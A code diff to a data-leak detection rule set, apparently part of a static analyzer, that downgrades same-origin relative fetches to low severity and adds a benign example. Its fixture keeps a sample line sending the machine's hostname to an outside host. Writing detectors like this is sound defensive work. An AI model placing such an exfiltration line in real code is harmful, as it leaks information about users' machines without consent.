@@ -1,7 +1,7 @@
 import type { Effect } from '../effect.ts'
 import { origin, type Value } from '../model.ts'
 import type { Rule } from '../rule.ts'
-import { comesFrom, sketch } from '../values.ts'
+import { comesFrom, sketch, startOf } from '../values.ts'
 import { code, everything, everywhere, isFixed, names, says, scripts } from './ask.ts'
 import { host } from './where.ts'
 
@@ -73,7 +73,9 @@ export const leakRules: readonly Rule[] = [
         if (comesFrom(payload, origin.environment | origin.system))
           return { severity: 'high', message: 'Sends facts about this machine out.' }
         if (comesFrom(payload, origin.file)) return { severity: 'high', message: 'Sends the content of files out.' }
-        return sends(effect)
+        if (!sends(effect)) return false
+        // A page that speaks to the server it came from.
+        return /^\/(?!\/)/.test(startOf(effect.target)) ? { severity: 'low' } : true
       },
     },
     examples: {
@@ -86,7 +88,10 @@ export const leakRules: readonly Rule[] = [
           code: "fetch('https://x.org/?h=' + encodeURIComponent(require('os').hostname()))",
         },
       ],
-      good: ["import requests\nrequests.get('https://x.org')"],
+      good: [
+        "import requests\nrequests.get('https://x.org')",
+        { language: 'javascript', code: "fetch('/api/items', { method: 'POST', body: JSON.stringify(item) })" },
+      ],
     },
   },
   {
